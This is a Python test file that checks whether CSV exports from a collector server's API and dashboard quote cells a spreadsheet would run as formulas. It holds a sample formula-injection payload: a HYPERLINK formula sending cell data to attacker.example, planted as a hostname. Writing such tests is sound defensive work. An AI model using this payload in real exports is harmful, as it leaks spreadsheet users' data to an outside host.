"""CSV exports of the API and the dashboard quote text a spreadsheet would run as a formula
(one helper for both), on SQLite and PostgreSQL, through the real server."""
from __future__ import annotations

import csv
import io

from tests.collectors.collector_support import Agent, Server, Tokens, result
from tests.collectors.test_dashboard_http import login

from collectors.csv_export import inert

FORMULA_HOST = '=HYPERLINK("http://attacker.example/?d="&A1,"open")'


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_formula_cells_are_quoted_in_every_csv_export(server: Server, tokens: Tokens) -> None:
    agent = server.enroll(tokens.enroll["DOJ"], Agent("formula-host", hostname=FORMULA_HOST))
    report = agent.full([{**result("H.1", "fail"), "message": "+1 regressed", "title": "@SUM(1,2)"},
                         result("H.2", "pass")])
    report["host"]["tags"] = ["-tag"]
    assert server.submit(agent, report).json()["status"] == "accepted"
    delta = agent.delta([result("H.1", "pass")])
    delta["host"]["tags"] = ["-tag"]
    assert server.submit(agent, delta).json()["status"] == "accepted"
    soc = tokens.soc["DOJ"]

    hosts = rows(server.request("GET", "/api/v1/hosts?format=csv", soc).text)
    assert [(h["hostname"], h["tags"], h["host_id"]) for h in hosts] == [("'" + FORMULA_HOST, "'-tag", "formula-host")]
    exported = {r["key"]: r for r in rows(server.request("GET", "/api/v1/export/results?format=csv", soc).text)}
    assert exported["H.1"]["hostname"] == "'" + FORMULA_HOST
    changes = rows(server.request("GET", "/api/v1/changes?format=csv", soc).text)
    assert {c["hostname"] for c in changes} == {"'" + FORMULA_HOST}
    # The dashboard's downloads go through the same helper.
    assert login(server, soc).status_code == 303
    page = server.http.get(server.url + "/dashboard/agency/DOJ/hosts.csv", timeout=30)
    assert page.status_code == 200
    assert [(h["hostname"], h["tags"]) for h in rows(page.text)] == [("'" + FORMULA_HOST, "'-tag")]


def test_inert_quotes_formula_starts_only_in_text() -> None:
    for cell in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
        assert inert(cell) == "'" + cell
    for cell in ("web-01", "", "2026-07-02", "a=b", -3, 4.5, None, True):
        assert inert(cell) == cell
